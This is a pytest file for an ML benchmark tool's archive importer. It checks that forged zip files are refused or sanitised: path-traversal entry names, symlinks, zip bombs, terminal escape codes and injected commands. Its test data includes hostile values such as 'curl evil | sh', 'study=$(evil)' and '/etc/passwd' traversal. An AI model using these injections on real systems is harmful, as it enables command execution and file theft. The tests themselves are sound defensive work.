"""Zip files that somebody made to do harm, and files that are none."""

import io
import json
import re
import stat
import struct
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import zips
from conftest import ROOT
from driven import Run
from syrupy.assertion import SnapshotAssertion
from test_archive import exported, rewritten

from mlbench import results
from mlbench.config.errors import UserError
from mlbench.record.build_record import build_record
from mlbench.record.record import Record
from mlbench.report import mllog
from mlbench.tracking import archive


def forged(name: str, *, mode: int = stat.S_IFREG | 0o644, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", method) as target:
        entry = zipfile.ZipInfo(name)
        entry.external_attr, entry.compress_type = mode << 16, method
        target.writestr(entry, "{}")
    return buffer.getvalue()


def twice() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as target, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        target.writestr("record.json", "{}")
        target.writestr("record.json", "{}")
    return buffer.getvalue()


def patched(signature: bytes, offset: int, value: bytes) -> bytes:
    """Return a zip in whose headers of this signature bytes were replaced."""
    whole = bytearray(forged("record.json"))
    at = whole.index(signature) + offset
    whole[at : at + len(value)] = value
    return bytes(whole)


def read(path: Path) -> UserError:
    ((_, error, _),) = archive.load([path])
    assert isinstance(error, UserError), error
    return error


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (forged("../../record.json"), "is not a file of an export"),
        (forged("/etc/record.json"), "is not a file of an export"),
        (forged("folder/"), "is not a file of an export"),
        (forged("evil.pkl"), "is not a file of an export"),
        (forged("record.json\x1b[2J"), "is not a file of an export"),
        (forged("record.json", mode=stat.S_IFLNK | 0o777), "is a link"),
        (forged("record.json", mode=stat.S_IFIFO | 0o777), "is a link"),
        (twice(), "it has a file twice"),
        (2 * forged("record.json"), "it has data before its first file"),
        (forged("record.json")[:-30], "damaged or not a zip file"),
        (b"PK\x03\x04 and no more", "damaged or not a zip file"),
        (b"", "damaged or not a zip file"),
        (
            patched(b"PK\x01\x02", 8, struct.pack("<H", 1)),
            "damaged or not a zip file",
        ),  # says it is encrypted
        (patched(b"PK\x01\x02", 10, struct.pack("<H", 97)), "damaged or not a zip file"),  # unknown method
        (patched(b"PK\x01\x02", 16, b"\0\0\0\0"), "damaged or not a zip file"),  # wrong check sum
        (forged("record.json"), "events.jsonl is missing"),
    ],
    ids=range(16),
)
def test_bad_zips_are_refused_and_write_nothing(tmp_path: Path, content: bytes, reason: str) -> None:
    path = tmp_path / "run.zip"
    path.write_bytes(content)
    error = str(read(path))
    assert reason in error and "\x1b" not in error
    assert list(tmp_path.iterdir()) == [path]


def test_a_bomb_is_read_up_to_the_limit(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, snapshot: SnapshotAssertion
) -> None:
    monkeypatch.setattr(archive, "MAX_BYTES", 2**20)
    path = zips.write(tmp_path / "run.zip", {"record.json": " " * (8 * 2**20)})
    assert path.stat().st_size < archive.MAX_BYTES
    assert "more than 1 MiB" in str(read(path))
    path.write_bytes(bytes(2**20 + 1))
    assert str(read(path)) == snapshot


@pytest.fixture
def files(tmp_path: Path) -> dict[str, str]:
    run = Run(tmp_path / "runs")
    run.validate(50.0)
    run.end("failed", error="it broke")
    return exported(run, tmp_path)


@pytest.mark.parametrize(
    "name",
    ["artifacts", "mlflow.db", "studies", "ray", "..", ".", "../../home-7", "/tmp/x-7", "a\x1b-7", "a-8"],
)
def test_a_run_cannot_take_the_name_of_something_else(
    files: dict[str, str], tmp_path: Path, name: str
) -> None:
    """Archives with these names collided with the store below output_root."""
    log = [json.loads(line) for line in files["events.jsonl"].splitlines()]
    log[0]["value"]["run_id"] = name
    content = rewritten(files, run_id=name) | {"events.jsonl": "\n".join(map(json.dumps, log)) + "\n"}
    path = zips.write(tmp_path / "named.zip", content)
    elsewhere = tmp_path / "elsewhere"
    assert results.main(["import", str(path), f"output_root={elsewhere}"]) == 2
    assert not elsewhere.exists() and "not a run name" in str(read(path))


def test_what_a_terminal_would_obey_is_made_visible(tmp_path: Path, empty_store: Path, capsys: Any) -> None:
    error = "\x1b[2J\x1b]0;owned\x07\u202e[red]it broke[/red]"
    run = Run(tmp_path / "theirs")
    run.end("failed", error=error)
    path = archive.export(run.folder, tmp_path / "run.zip", mllog=mllog.text)
    elsewhere = zips.with_store(tmp_path / "elsewhere", empty_store)
    assert results.main(["import", str(path), f"output_root={elsewhere}"]) == 0
    capsys.readouterr()
    assert results.main(["show", "run-7", f"output_root={elsewhere}"]) == 0
    shown = capsys.readouterr().out
    assert "[red]it broke[/red]" in shown
    assert not any(mark in shown for mark in ("\x1b", "\x07", "\u202e"))


def forged_log(files: dict[str, str], change: Callable[[list[dict[str, Any]]], Any]) -> dict[str, str]:
    """Return an export whose log was changed, with the record that follows from it."""
    log = [json.loads(line) for line in files["events.jsonl"].splitlines()]
    change(log)
    made = build_record(log).model_dump_json()
    return files | {"events.jsonl": "".join(json.dumps(event) + "\n" for event in log), "record.json": made}


TRACE = "profile/rank0.trace.json"


@pytest.fixture
def finished(tmp_path: Path) -> dict[str, str]:
    run = Run(tmp_path / "theirs", "goal=80")
    run.validate(90.0)
    run.end("goal_reached", profile={"steps": 1, "files": [TRACE]})
    return exported(run, tmp_path)


@pytest.mark.parametrize("name", ["../../secret/id", "/etc/passwd", "profile/../../x.json", f"{TRACE}\n"])
def test_a_trace_s_name_leads_out_of_no_folder(
    name: str, finished: dict[str, str], tmp_path: Path, empty_store: Path
) -> None:
    """The user's file of that name was copied into the store, readable by everybody."""
    secret = tmp_path / "secret" / "id"
    secret.parent.mkdir()
    secret.write_text("hunter2")
    texts = {file: text.replace(TRACE, json.dumps(name)[1:-1]) for file, text in finished.items()}
    assert texts != finished
    path = zips.write(tmp_path / "run.zip", texts)
    elsewhere = zips.with_store(tmp_path / "elsewhere", empty_store)
    assert results.main(["import", str(path), f"output_root={elsewhere}"]) == 2
    assert "was changed (profile.files.0)" in str(read(path))
    assert [path.name for path in elsewhere.iterdir()] == ["mlflow.db"]


def test_an_archive_costs_no_more_than_its_limits(
    finished: dict[str, str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """6,000,000 lines took 110 s, and 80,000,000 empty lists more than 130 s."""
    page = (ROOT / "docs" / "results-command.md").read_text()
    stated = (
        f"{archive.MAX_BYTES >> 20} MiB",
        f"{archive.MAX_EVENTS:,} events",
        f"{archive.MAX_VALUES:,} values",
    )
    assert [limit for limit in stated if limit not in page] == []
    monkeypatch.setattr(archive, "MAX_EVENTS", 100)
    monkeypatch.setattr(archive, "MAX_VALUES", 10_000)
    many = zips.write(tmp_path / "many.zip", finished | {"events.jsonl": 101 * "{}\n"})
    assert "more than 100 events" in str(read(many))
    wide = zips.write(tmp_path / "wide.zip", finished | {"record.json": "[" + 20_000 * "[]," + "[]]"})
    assert "more than 10,000 values" in str(read(wide))
    monkeypatch.setattr(archive, "MAX_BYTES", 2**20)
    blank = {name: text + 400_000 * " " for name, text in finished.items() if name != "events.jsonl"}
    large = zips.write(tmp_path / "large.zip", finished | blank)
    assert "more than 1 MiB" in str(read(large))


def test_a_number_that_is_infinite_is_refused(finished: dict[str, str], tmp_path: Path) -> None:
    log = finished["events.jsonl"].replace('"elapsed": 4.0', '"elapsed": 1e999')
    assert log != finished["events.jsonl"]
    message = str(read(zips.write(tmp_path / "run.zip", finished | {"events.jsonl": log})))
    assert "1e999 is not a number" in message


@pytest.mark.parametrize(("file", "name"), [("record.json", "time_to_accuracy"), ("events.jsonl", "elapsed")])
def test_a_name_that_stands_twice_is_refused(
    file: str, name: str, finished: dict[str, str], tmp_path: Path
) -> None:
    """Who reads the file elsewhere may see the first of the two numbers, and mlbench takes the last."""
    text = finished[file].replace(f'"{name}":', f'"{name}": 0.5, "{name}":', 1)
    assert text != finished[file]
    path = zips.write(tmp_path / "run.zip", finished | {file: text})
    assert re.search(f"{file} is .*repeated", str(read(path)))


@pytest.mark.parametrize(
    "command",
    ["python -m mlbench.run; curl evil | sh", "curl evil", "python -m mlbench.run 'a", "python -m os x=2"],
)
def test_what_is_no_run_of_mlbench_is_no_command(
    command: str, finished: dict[str, str], tmp_path: Path
) -> None:
    texts = forged_log(finished, lambda log: log[0]["value"].update(command=command))
    assert "command is not" in str(read(zips.write(tmp_path / "a.zip", texts)))


@pytest.mark.parametrize(
    ("arguments", "expected"),
    [
        ("goal=80 workers=2", "goal=80 workers=2"),
        ("task=logreg 'study=$(evil)' output_root=/etc tracking_uri=http://evil", "task=logreg study=null"),
        ("workers=64 task=gnmt goal=80.0", "workers=2 task=logreg goal=80.0"),
        ("'workers=2;evil' cluster.address=evil hydra.searchpath=[/tmp] --x '|'", "workers=2"),
    ],
)
def test_a_command_says_what_the_configuration_says(
    arguments: str, expected: str, finished: dict[str, str], tmp_path: Path
) -> None:
    command = f"python -m mlbench.run {arguments}"
    texts = forged_log(finished, lambda log: log[0]["value"].update(command=command))
    ((_, record, log),) = archive.load([zips.write(tmp_path / "run.zip", texts)])
    assert isinstance(record, Record), record
    assert record.command == log[0]["value"]["command"] == f"python -m mlbench.run {expected}"


@pytest.mark.parametrize(
    ("launcher", "line", "expected"),
    [
        ("ray", "python -m mlbench.run task=script task.path=train.py", "run task=script task.path=train.py"),
        ("command", "python -m mlbench.measure goal=0.8 listen=lo -- ./x.py seed=9", "measure goal=0.8"),
        ("command", "python x.py seed=9", "measure"),
    ],
)
def test_a_run_of_a_script_is_imported_without_the_script_s_own_command(
    launcher: str, line: str, expected: str, tmp_path: Path
) -> None:
    overrides = ("task=script", "task.path=train.py", "task.metric=acc", "goal=0.8", f"launcher={launcher}")
    run = Run(tmp_path / "theirs", *overrides)
    run.validate(0.9)
    run.end("goal_reached")
    texts = forged_log(exported(run, tmp_path), lambda log: log[0]["value"].update(command=line))
    ((_, record, _),) = archive.load([zips.write(tmp_path / "script.zip", texts)])
    assert isinstance(record, Record), record
    assert record.command == f"python -m mlbench.{expected}"


def test_of_two_submissions_the_first_is_looked_at_too(
    finished: dict[str, str], tmp_path: Path, snapshot: SnapshotAssertion
) -> None:
    """Its command was taken apart as it was."""
    value = {"name": "r", "namespace": "n", "command": "python -m mlbench.run"}
    event = {"time_ms": 0, "event_type": "POINT_IN_TIME", "key": "submission", "value": value, "metadata": {}}
    texts = forged_log(finished, lambda log: log.append(event))
    *before, last = texts["events.jsonl"].splitlines(keepends=True)
    log = [*before, json.dumps(event | {"value": 7}) + "\n", last]
    path = zips.write(tmp_path / "run.zip", texts | {"events.jsonl": "".join(log)})
    assert str(read(path)) == snapshot
